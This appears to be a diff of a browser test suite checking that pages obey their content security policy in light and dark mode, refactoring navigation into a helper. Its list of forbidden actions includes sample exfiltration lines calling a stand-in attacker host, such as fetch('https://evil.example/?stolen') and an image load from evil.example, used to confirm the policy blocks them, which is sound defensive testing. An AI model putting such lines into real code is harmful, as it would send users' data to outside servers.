@@ -48,18 +48,24 @@ test("S-01 no page, light or dark, does what the content security policy forbids
   const page = await open({ token });
   await page.goto("/");
   await page.locator("main h1").first().waitFor();
-  for (const path of ["/nowhere", ...paths]) {
-    // Led on within: the policy is the document's, and each page brings its own parts.
+  // Led on within: the policy is the document's, and each page brings its own parts. By way of an address that is none, as two
+  // pages of one kind keep their heading.
+  const leadTo = async (address: string) => {
     await page.evaluate(
       "for (const one of document.querySelectorAll('main :is(h1, h2, [role=alert])')) one.dataset.before = ''",
     );
     await page.evaluate(
-      `history.pushState({}, "", ${JSON.stringify(addressOf(path))}); dispatchEvent(new PopStateEvent("popstate"))`,
+      `history.pushState({}, "", ${JSON.stringify(address)}); dispatchEvent(new PopStateEvent("popstate"))`,
     );
     await page.locator("main :is(h1, h2, [role=alert]):not([data-before])").first().waitFor();
+  };
+  await leadTo("/nowhere");
+  for (const path of paths) {
+    await leadTo(addressOf(path));
     await page.emulateMedia({ colorScheme: "dark" });
     await page.evaluate("new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))");
     await page.emulateMedia({ colorScheme: "light" });
+    await leadTo("/nowhere");
   }
   for (const path of ["/sign-in", "/set-up", "/invitation"]) {
     const lone = await open();
@@ -91,7 +97,7 @@ const forbidden: readonly [what: string, script: string, directive: string][] = 
     "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
     "trusted-types",
   ],
-  ["a word to another server", "fetch('https://evil.example/?stolen')", "connect-src"],
+  ["a word to another server", "fetch('https://evil.example/?stolen').catch(() => undefined)", "connect-src"],
   [
     "a picture from another server",
     "document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x.png' }))",
